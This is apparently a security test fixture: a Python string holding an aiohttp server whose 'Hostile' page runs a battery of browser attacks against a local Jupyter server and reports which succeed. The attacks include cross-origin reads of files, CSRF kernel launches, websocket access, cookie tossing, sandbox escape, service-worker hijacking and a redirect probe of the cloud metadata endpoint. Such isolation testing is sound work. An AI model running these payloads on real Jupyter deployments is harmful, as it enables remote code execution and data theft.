"""A job whose page tries what a page can to get at Jupyter, and tells its server how it went."""

SOURCE = """
import json
from aiohttp import web

told = {}

async def page(request):
    if job_data.get("go_to"):
        raise web.HTTPFound(job_data["go_to"])
    text = PAGE.replace("CONFIG", json.dumps(job_data))
    answer = web.Response(text=text, content_type="text/html")
    # What would change Jupyter's host, if this counted for it.
    for cookie in ("_xsrf=tossed; Domain=localhost; Path=/", "_xsrf=tossed; Path=/",
                   job_data["login"] + "=tossed; Domain=localhost; Path=/"):
        answer.headers.add("Set-Cookie", cookie)
    answer.headers["Clear-Site-Data"] = '"cookies", "storage"'
    answer.headers["Access-Control-Allow-Credentials"] = "true"
    return answer

async def report(request):
    print("REPORT", await request.text(), flush=True)
    print("HEADERS", json.dumps([[k.lower(), v] for k, v in request.headers.items()]), flush=True)
    return web.Response(text="ok")

async def worker(request):
    return web.Response(text="self.addEventListener('fetch', () => {})",
                        content_type="text/javascript", headers={"Service-Worker-Allowed": "/"})

async def redirect(request):
    raise web.HTTPFound(request.query["to"])

PAGE = '''<!doctype html><title>Hostile</title><body><script>
const config = CONFIG;
const J = config.jupyter;
const results = {};
const within = (promise, ms) => Promise.race([promise,
  new Promise((done) => setTimeout(() => done("nothing in time"), ms))]);
const attempt = async (name, attack) => {
  try { results[name] = "" + await within(attack(), 8000); }
  catch (error) { results[name] = "threw " + error.name; }
};
const read = async (url, options) => {
  const answer = await fetch(url, {credentials: "include", ...options});
  return answer.type + " " + answer.status + " " + (await answer.text()).slice(0, 200);
};
const frame = (url) => new Promise((done) => {
  const made = document.createElement("iframe");
  made.onload = () => setTimeout(() => {
    try { done("READ " + made.contentDocument.body.innerText.slice(0, 200)); }
    catch (error) { done("threw " + error.name); }
  }, 200);
  made.src = url;
  document.body.append(made);
});
const form = (action, fields, target) => new Promise((done) => {
  const sink = document.createElement("iframe");
  sink.name = "sink" + Math.random();
  document.body.append(sink);
  sink.onload = () => done("sent");
  const made = document.createElement("form");
  made.method = "post"; made.action = action; made.target = target || sink.name;
  made.enctype = "text/plain";
  for (const [name, value] of Object.entries(fields)) {
    const field = document.createElement("input");
    field.name = name; field.value = value; made.append(field);
  }
  document.body.append(made);
  made.submit();
  setTimeout(() => done("sent"), 1500);
});
const socket = (url) => new Promise((done) => {
  const made = new WebSocket(url);
  made.onopen = () => done("OPEN");
  made.onmessage = (event) => done("MESSAGE " + event.data);
  made.onerror = () => done("refused");
});
const attacks = {
  "contents": () => read(J + "/api/contents"),
  "contents of 127.0.0.1": () => read(J.replace("localhost", "127.0.0.1") + "/api/contents"),
  "contents without asking": () => read(J + "/api/contents", {mode: "no-cors"}),
  "contents by dots": () => read("../../../../api/contents"),
  "contents by encoded dots": () => read("%2e%2e/%2e%2e/%2e%2e/api/contents"),
  "contents by slashes": () => read(location.pathname + "/..%2f..%2f..%2fapi/contents"),
  "start a kernel": () => read(J + "/api/kernels", {method: "POST", body: "{}"}),
  "start a kernel without asking": () =>
    read(J + "/api/kernels", {method: "POST", body: "{}", mode: "no-cors"}),
  "start a kernel by a form": () => form(J + "/api/kernels", {"{": "}"}),
  "start a kernel by a beacon": async () => navigator.sendBeacon(J + "/api/kernels", "{}"),
  "a kernel's websocket": () => socket(J.replace("http", "ws") + "/api/kernels/" + config.kernel
                                      + "/channels"),
  "make a file by a form": () =>
    form(J + "/api/contents", {"{\\\\"type\\\\": \\\\"file": "\\\\"}"}),
  "log out by a form": () => form(J + "/logout", {}),
  "log out by an image": () => new Promise((done) => {
    const image = new Image(); image.onerror = () => done("asked"); image.src = J + "/logout"; }),
  "log out by a frame": () => frame(J + "/logout"),
  "log out by a redirect": () => frame("redirect?to=" + encodeURIComponent(J + "/logout")),
  "contents by a redirect": () => read("redirect?to=" + encodeURIComponent(J + "/api/contents")),
  "metadata by a redirect": () =>
    read("redirect?to=" + encodeURIComponent("http://169.254.169.254/latest/meta-data/")),
  "a script of Jupyter's": () => new Promise((done) => {
    const made = document.createElement("script");
    made.onload = () => done("ran"); made.onerror = () => done("refused");
    made.src = J + "/api/contents"; document.body.append(made); }),
  "frame Jupyter": () => frame(J + "/chutes-test/frame?url=x"),
  "read cookies": async () => "cookies: " + document.cookie,
  "toss cookies": async () => {
    for (const end of ["", "; domain=localhost", "; domain=.localhost", "; domain=127.0.0.1"])
      for (const name of ["_xsrf", config.login]) document.cookie = name + "=tossed; path=/" + end;
    return "tried"; },
  "the parent's page": async () => parent === window ? "none" :
    "READ " + parent.document.body.innerText,
  "the top's page": async () => top === window ? "none" : "READ " + top.document.body.innerText,
  "the frame's own limits": async () => {
    const own = window.frameElement; own.removeAttribute("sandbox"); return "REMOVED"; },
  "move the top": async () => { if (top === window) return "none";
    top.location = J + "/chutes-test/frame?url=moved"; return "asked"; },
  "open a window": async () => {
    const opened = window.open(J + "/api/contents");
    if (!opened) return "refused";
    await new Promise((done) => setTimeout(done, 1500));
    const text = "READ " + opened.document.body.innerText; opened.close(); return text; },
  "a service worker": async () => {
    const made = await navigator.serviceWorker.register("worker.js", {scope: "/"});
    return "registered for " + new URL(made.scope).host; },
  "a service worker of Jupyter's": async () => {
    await navigator.serviceWorker.register(J + "/worker.js", {scope: J}); return "REGISTERED"; },
  "another job's host": () => read(config.other),
  "another job's host without asking": () => read(config.other, {mode: "no-cors"}),
  "another job's host in a frame": () => frame(config.other),
  "another job's websocket": () => socket(config.other.replace("http", "ws") + "ws"),
  "another job's path": () => read(config.other_path),
  "a path that is over": () => read(config.over),
  "a ticket that is used": () => read(config.used),
};
(async () => {
  for (const [name, attack] of Object.entries(attacks)) await attempt(name, attack);
  results.where = location.origin + " " + window.origin;
  await fetch("report", {method: "POST", body: JSON.stringify(results)});
  document.title = "Done";
  document.body.insertAdjacentHTML("beforeend", "<p id=done>all tried</p>");
})();
</script>'''

app = web.Application()
app.add_routes([web.get("/", page), web.post("/report", report), web.get("/worker.js", worker),
                web.get("/redirect", redirect)])
runner = web.AppRunner(app)
await runner.setup()
await web.TCPSite(runner, "127.0.0.1", job_data["port"]).start()
await self.cancel_event.wait()
await runner.cleanup()
"""
